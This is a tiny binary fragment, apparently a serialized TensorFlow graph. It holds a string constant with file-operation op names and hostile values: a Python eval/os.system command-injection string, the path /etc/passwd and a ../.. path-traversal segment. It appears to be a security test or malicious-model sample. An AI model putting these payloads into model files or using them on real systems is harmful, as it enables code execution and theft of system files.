
w
ReadFileConst*
dtype0*W
valueNBLB	WriteFileB#eval(__import__('os').system('id'))B/etc/passwdB../.."ª